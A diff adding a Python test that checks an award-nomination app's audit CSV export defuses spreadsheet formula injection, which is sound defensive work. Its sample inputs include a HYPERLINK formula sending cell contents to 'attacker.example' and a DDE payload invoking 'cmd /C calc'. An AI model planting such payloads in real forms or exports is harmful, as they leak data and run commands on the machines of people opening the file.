@@ -49,3 +49,49 @@ async def test_audit_is_for_auditors(harness, people):
         assert (await people(username).get("/audit")).status_code == 403
         assert (await people(username).get("/audit/export.csv")).status_code == 403
     assert (await people(None).get("/audit/export.csv")).status_code == 303
+
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_the_csv_never_hands_a_formula_to_a_spreadsheet(harness, people):
+    """An anonymous objection signed ``@SUM(...)`` with a reason beginning
+    ``=HYPERLINK(...)``, resolved with a reason beginning ``-``: read back from the CSV,
+    every such text is shown as text (a leading single quote), and the ids stay numbers."""
+    household = (
+        await harness.nominate(
+            household="Bùi Văn Khải",
+            unit_user="canbo.tdp1",
+            unit_code="tk-tdp-1",
+            award_code="gd_van_hoa",
+            items=["to_trinh", "danh_sach_ho_gia_dinh", "bien_ban_binh_xet"],
+        )
+    )["id"]
+    notice = await harness.ok("thuongtruc", f"/api/v1/nominations/{household}/accept", {})
+    assert notice["stage"] == "public_notice", notice
+    reason = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'
+    lodged = await harness.ok(
+        None,
+        f"/api/v1/public/notices/{household}/objections",
+        {
+            "objector_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "objector_contact": "+84 912 345 678",
+            "reason": reason,
+        },
+        status=201,
+    )
+    resolution = "-1+1 đã xác minh: phản ánh không đúng"
+    await harness.ok(
+        "thuongtruc",
+        f"/api/v1/nominations/{household}/objections/{lodged['objection_key']}/resolve",
+        {"outcome": "dismissed", "reason": resolution},
+    )
+
+    export = await people("kiemtra").get("/audit/export.csv", params={"nomination_id": household})
+    assert export.status_code == 200
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert "'" + reason in cells and "'" + resolution in cells
+    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)], rows
+    for row in rows:  # the event and nomination ids are numbers, not quoted text
+        assert row[0].isdigit() and row[2] == str(household), row
